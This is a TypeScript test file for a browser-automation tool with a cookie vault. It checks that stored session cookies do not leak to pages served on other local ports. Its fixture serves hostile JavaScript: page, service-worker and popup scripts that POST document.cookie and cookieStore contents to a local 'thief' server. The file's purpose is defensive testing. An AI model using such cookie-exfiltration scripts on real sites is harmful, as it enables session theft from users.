import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createPlainServer } from 'node:http';
import type { IncomingMessage, RequestListener, Server } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Duplex } from 'node:stream';
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
import { TEST_CERTIFICATE, TEST_KEY } from '../fixtures/certificates.js';
import { runCommand, start } from '../fixtures/gatewright.js';
import type { Running } from '../fixtures/gatewright.js';
import { promised } from '../fixtures/promised.js';
import { html } from '../fixtures/site.js';

const HIDDEN = 'h1dden-3c5e7a9b';
const READABLE = 'r3adable-8d6f4b2c';
const VALUES = new RegExp(`${HIDDEN}|${READABLE}`, 'u');

interface Party {
  readonly port: number;
  /** What it was told, in addresses, headers and bodies. */
  readonly received: string[];
  readonly close: () => void;
}

function listen(server: Server, received: string[]): Promise<Party> {
  const sockets = new Set<Duplex>();
  server.on('connection', (socket: Duplex) => {
    sockets.add(socket.on('close', () => sockets.delete(socket)));
  });
  server.on('upgrade', (request: IncomingMessage, socket: Duplex) => {
    received.push(JSON.stringify(request.headers));
    socket.on('error', () => undefined).destroy();
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as AddressInfo;
      const close = () => {
        server.close();
        for (const socket of sockets) socket.destroy();
      };
      resolve({ port, received, close });
    });
  });
}

function party(scheme: 'http' | 'https', page: (path: string) => [string, string]): Promise<Party> {
  const received: string[] = [];
  const answer: RequestListener = (request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      received.push(`${request.url ?? ''} ${JSON.stringify(request.headers)} ${Buffer.concat(chunks).toString()}`);
      const [type, body] = page(request.url ?? '/');
      response.writeHead(200, { 'content-type': type, 'cache-control': 'max-age=600' }).end(body);
    });
  };
  const secured = { cert: TEST_CERTIFICATE, key: TEST_KEY };
  return listen(scheme === 'https' ? createTlsServer(secured, answer) : createPlainServer(answer), received);
}

/** Keeps its connections busy, and tells a third party whatever it can read. */
const neighbour =
  (thief: string) =>
  (path: string): [string, string] => {
    if (path === '/worker.js') {
      return [
        'text/javascript',
        `const tell = async (how) => { const all = self.cookieStore ? await cookieStore.getAll() : [];
         fetch('${thief}/worker-' + how, { method: 'POST', mode: 'no-cors', body: JSON.stringify(all) }).catch(() => 0); };
       self.oninstall = () => skipWaiting();
       self.onactivate = (e) => { e.waitUntil(clients.claim()); e.waitUntil(registration.cookies?.subscribe([{}])); };
       self.addEventListener('cookiechange', (e) => e.waitUntil(tell('change')));
       self.onmessage = (e) => e.waitUntil((async () => { for (let i = 0; i < 200; i++) { await tell('loop'); await fetch('/poll?worker').catch(() => 0); await new Promise((d) => setTimeout(d, 60)); } })());`,
      ];
    }
    if (path.startsWith('/poll')) return ['text/plain', 'polled'];
    return [
      'text/html',
      html(`<h1>Neighbour</h1><script>
      const tell = (how) => fetch('${thief}/' + how, { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => 0);
      const poll = () => fetch('/poll?' + Math.random(), { credentials: 'include', cache: 'no-store' }).catch(() => 0);
      for (let lane = 0; lane < 2; lane += 1) (async () => { for (;;) { await poll(); await new Promise((d) => setTimeout(d, 15)); } })();
      setInterval(() => { try { new WebSocket(location.origin.replace('http', 'ws') + '/socket'); } catch {} tell('page'); }, 120);
      setInterval(() => { const f = document.createElement('iframe'); f.src = '/poll?frame'; document.body.append(f); setTimeout(() => f.remove(), 300); }, 400);
      if (location.hash === '#popup') {
        const child = open('about:blank');
        child.eval("setInterval(() => fetch('${thief}/blank', { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => 0), 60)");
      }
      navigator.serviceWorker?.register('/worker.js').then((r) => navigator.serviceWorker.ready).then((r) => r.active.postMessage('go')).catch(() => 0);
    </script>`),
    ];
  };

promised('identities-unseen', () => {
  let home: Party;
  let secure: Party;
  let plain: Party;
  let thief: Party;
  let workspace: string;
  let gatewright: Running;
  const at = (scheme: string, { port }: Party, path = '/') => `${scheme}://localhost:${port}${path}`;

  beforeAll(async () => {
    thief = await party('https', () => ['text/plain', 'thanks']);
    const page = neighbour(`https://127.0.0.1:${thief.port}`);
    home = await party('https', () => ['text/html', html('<h1>Home</h1><p>Welcome back</p>')]);
    secure = await party('https', page);
    plain = await party('http', page);
  });
  afterAll(() => {
    for (const { close } of [home, secure, plain, thief]) close();
  });
  beforeEach(async () => {
    for (const { received } of [home, secure, plain, thief]) received.length = 0;
    workspace = mkdtempSync(join(tmpdir(), 'gw-ports-'));
    const hosts = [home, secure, plain].map(({ port }) => `localhost:${port}`);
    const broken = [hosts[0], hosts[1], `127.0.0.1:${thief.port}`];
    const config = { browser: { ignoreHttpsErrors: broken }, network: { unsafeAllowPrivate: [...hosts, broken[2]] } };
    writeFileSync(join(workspace, 'gatewright.yaml'), JSON.stringify(config), { mode: 0o600 });
    const record = {
      domain: `localhost:${home.port}`,
      origins: [`https://localhost:${home.port}`],
      cookies: [
        { name: 'sid', value: HIDDEN, httpOnly: true, sameSite: 'None' },
        { name: 'seen', value: READABLE, httpOnly: false, sameSite: 'None' },
      ],
    };
    const added = runCommand(workspace, ['vault', 'add', `localhost:${home.port}`], JSON.stringify(record));
    expect(added).toMatchObject({ status: 0 });
    gatewright = await start({ workspace });
  });
  afterEach(async () => {
    await gatewright.close();
    rmSync(workspace, { recursive: true, force: true, maxRetries: 5 });
  });

  it.each([
    ['a tab that stays at another https port', 'https', '', 'new'],
    ['a tab that stays at a plain port', 'http', '', 'new'],
    ['the same tab, which was at another https port', 'https', '', 'same'],
    ['an empty window that another port opened', 'https', '#popup', 'new'],
  ] as const)('%s gets nothing of it', async (_, scheme, hash, tab) => {
    const other = scheme === 'https' ? secure : plain;
    expect((await gatewright.call('browser_navigate', { url: at(scheme, other, `/${hash}`) })).isError).toBe(false);
    await expect.poll(() => thief.received.some((line) => line.startsWith('/page')), { timeout: 20_000 }).toBe(true);
    await expect.poll(() => thief.received.some((line) => line.startsWith('/worker')), { timeout: 20_000 }).toBe(true);
    const url = at('https', home);
    const opened =
      tab === 'same'
        ? await gatewright.call('browser_navigate', { url })
        : await gatewright.call('browser_tabs', { action: 'new', url });
    expect(opened.isError, opened.text).toBe(false);
    await gatewright.call('browser_wait_for', { seconds: 1.5 });
    expect(home.received.join('\n')).toContain(HIDDEN);
    expect(other.received.filter((line) => VALUES.test(line))).toEqual([]);
    expect(thief.received.filter((line) => VALUES.test(line))).toEqual([]);

    // And nobody gets there any more: neither by the network nor by what was kept of it.
    await gatewright.call('browser_navigate', { url: at(scheme, other) });
    await gatewright.call('browser_wait_for', { seconds: 0.5 });
    expect(other.received.filter((line) => VALUES.test(line))).toEqual([]);
    expect(thief.received.filter((line) => VALUES.test(line))).toEqual([]);
  });

  it('tabs of other hosts stay as they are, and their connections with them', async () => {
    const elsewhere = `https://127.0.0.1:${thief.port}/`;
    await gatewright.call('browser_navigate', { url: elsewhere });
    await gatewright.call('browser_tabs', { action: 'new', url: at('https', home) });
    const tabs = await gatewright.call('browser_tabs', { action: 'list' });
    expect(tabs.text).toContain(elsewhere.slice(0, -1));
    expect(home.received.join('\n')).toContain(HIDDEN);
  });
});
